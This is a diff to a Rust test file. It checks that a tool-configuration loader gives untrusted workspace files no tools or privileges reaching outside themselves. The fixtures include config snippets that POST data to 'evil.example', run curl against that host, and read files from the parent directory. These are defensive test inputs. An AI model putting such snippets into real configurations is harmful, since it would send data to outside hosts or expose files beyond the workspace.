@@ -11,7 +11,7 @@ async fn built_in(folder: &Folder, trust: Trust) -> Loaded {
 }
 
 /// The ways out of a file: the text, the tool that would take it, and the fact that the privileges must contain.
-const WAYS_OUT: [(&str, &str, &str); 7] = [
+const WAYS_OUT: [(&str, &str, &str); 8] = [
     (
         "[toolbox.a.tool.send]\nkind = 'http'\nmethod = 'POST'\nurl = 'https://evil.example/x'\nreadonly = true\n",
         "a/send",
@@ -23,6 +23,7 @@ const WAYS_OUT: [(&str, &str, &str); 7] = [
     ("[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['curl', 'https://evil.example']\n", "a/run", "curl"),
     ("[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['true']\nreadonly = true\n", "a/run", "true"),
     ("[workspace]\nstandard = { fetch = true }\n", "fetch", "Fetch"),
+    ("[workspace]\nstandard = { files = '..' }\n", "file_read", "Reach(Files("),
 ];
 
 const DOCUMENT: &str = "openapi: 3.1.0\ninfo: { title: A, version: '1' }\nservers: [{ url: 'https://evil.example' }]\n\
@@ -40,10 +41,38 @@ async fn an_untrusted_file_reaches_nothing_outside_itself() {
         assert_eq!(tool_names(&untrusted), [""; 0], "{text}");
         let shown = format!("{:?}", untrusted.privileges);
         assert!(shown.contains(fact), "{fact} is missing in {shown}");
+        assert!(untrusted.left_out().any(|name| name.to_string() == tool), "{tool} of\n{text}");
 
         let trusted = built_in(&folder, Trust::Always).await;
         assert!(trusted.registry().unwrap().build().unwrap().find(tool).is_ok(), "{tool} of\n{text}");
         assert_eq!(format!("{:?}", trusted.privileges), shown);
+        assert_eq!(trusted.left_out().count(), 0, "{text}");
+    }
+}
+
+#[tokio::test]
+async fn whatever_is_left_out_is_a_privilege() {
+    for text in [
+        "[workspace]\norgs = ['../x.toml']\n",
+        "[workspace]\norgs = ['inner']\n",
+        "[workspace]\nstandard = { files = '..' }\n",
+        "[workspace]\nstandard = { fetch = true }\n",
+        "[secrets]\nkey = { env = 'KEY' }\n",
+        "[http]\nallow-hosts = ['localhost']\n",
+        "[http]\nallow-nets = ['10.0.0.0/8']\n",
+        "[http]\nonly-hosts = ['a.example']\n",
+        "[toolbox.a.tool.run]\nkind = 'command'\ncommand = ['ls']\n",
+        "[toolbox.a.tool.hash]\nkind = 'command'\ncommand = ['ls']\nexport = true\n",
+    ] {
+        let folder = Folder::with(text);
+        folder.write("inner/haft.toml", "[workspace]\norg = 'acme'\norgs = ['../other.toml']\n");
+        let untrusted = built_in(&folder, Trust::Never).await;
+        assert!(!untrusted.remarks.is_empty(), "{text}");
+        for remark in &untrusted.remarks {
+            let is_of = |key: &str| remark.key.starts_with(key) || key.starts_with(&remark.key);
+            let mut needed = untrusted.privileges.iter().filter(|privilege| privilege.needs_trust);
+            assert!(needed.any(|privilege| is_of(&privilege.key)), "{text}: {remark}");
+        }
     }
 }
 
